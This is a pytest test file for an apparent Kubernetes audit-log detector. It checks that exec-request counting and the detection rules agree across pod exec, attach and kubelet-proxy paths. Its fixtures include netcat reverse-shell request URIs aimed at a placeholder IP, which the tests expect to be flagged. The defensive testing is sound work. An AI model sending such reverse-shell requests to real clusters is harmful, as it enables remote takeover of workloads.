""" "Is this an exec request?" is decided in one place, so the counters and the rules agree.

The exec counter (``auditstream_exec_requests_total``, the scan summary) reads
``Detections.exec_requests``; native rules read the decoded request the detector hands them.
Both come from :func:`exec_request_of`: on every exec path (pod exec and attach, the kubelet
proxy's ``exec`` and legacy ``run``) and on the near misses, they must say the same.
"""

from __future__ import annotations

import json

import pytest

from auditstream.detections.alert import SourceRef
from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.event.decode import events_from_json
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.cases import RuleCase, case_event
from auditstream.detections.ruleset.loader import load_rules

EVIL = "203.0.113.7"
PATHS = [
    # (label, request URI, subresource, is it an exec request)
    (
        "pod exec",
        f"/api/v1/namespaces/p/pods/w/exec?command=nc&command={EVIL}&stdin=true",
        "exec",
        True,
    ),
    ("pod attach", "/api/v1/namespaces/p/pods/w/attach?stdin=true&stdout=true", "attach", True),
    (
        "kubelet proxy exec",
        f"/api/v1/nodes/n1/proxy/exec/p/w/app?command=nc&command={EVIL}",
        "proxy",
        True,
    ),
    (
        "kubelet proxy run",
        f"/api/v1/nodes/n1/proxy/run/p/w/app?cmd=nc+-e+%2Fbin%2Fsh+{EVIL}+4444",
        "proxy",
        True,
    ),
    (
        "kubelet proxy run, pod uid",
        "/api/v1/nodes/n1/proxy/run/p/w/uid-1/app?cmd=id",
        "proxy",
        True,
    ),
    ("escaped path, no subresource", "/api/v1/namespaces/p/pods/w/%65xec?command=id", None, True),
    ("kubelet proxy, other endpoint", "/api/v1/nodes/n1/proxy/metrics", "proxy", False),
    ("pod log", "/api/v1/namespaces/p/pods/w/log?container=app", "log", False),
    ("exec label, not an exec path", "/api/v1/namespaces/p/pods/w", "exec", False),
    ("routine list", "/api/v1/namespaces/p/pods?limit=500", None, False),
]


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector(load_rules().rules)


@pytest.mark.parametrize(
    ("uri", "subresource", "is_exec"), [p[1:] for p in PATHS], ids=[p[0] for p in PATHS]
)
def test_counter_and_rules_agree(
    detector: Detector, uri: str, subresource: str | None, is_exec: bool
) -> None:
    event = case_event(RuleCase(uri, subresource, expect=False))
    if subresource is None:
        del event["objectRef"]["subresource"]
    pipeline = DetectionPipeline(detector, RecentAlerts())
    counted = pipeline.process_message(json.dumps(event).encode(), SourceRef("file")).exec_requests
    (decoded,) = events_from_json(event)
    seen_by_rules = detector.exec_request(decoded) is not None
    assert counted == (1 if is_exec else 0)
    assert seen_by_rules is is_exec
    # Every hit carries the request's container exactly when the event is an exec request.
    for hit in detector.detect(decoded):
        assert (hit.container is not None) is is_exec


def test_a_kubelet_run_reverse_shell_is_counted_and_alerted(detector: Detector) -> None:
    """The path the old counter missed: a legacy ``run`` through the kubelet proxy."""
    uri = f"/api/v1/nodes/n1/proxy/run/p/w/app?cmd=nc+-e+%2Fbin%2Fsh+{EVIL}+4444"
    event = case_event(RuleCase(uri, "proxy", expect=True))
    found = DetectionPipeline(detector, RecentAlerts()).process_message(
        json.dumps(event).encode(), SourceRef("file")
    )
    assert found.exec_requests == 1
    assert any(a.explanation and a.explanation.indicator == "netcat_exec" for a in found.alerts)
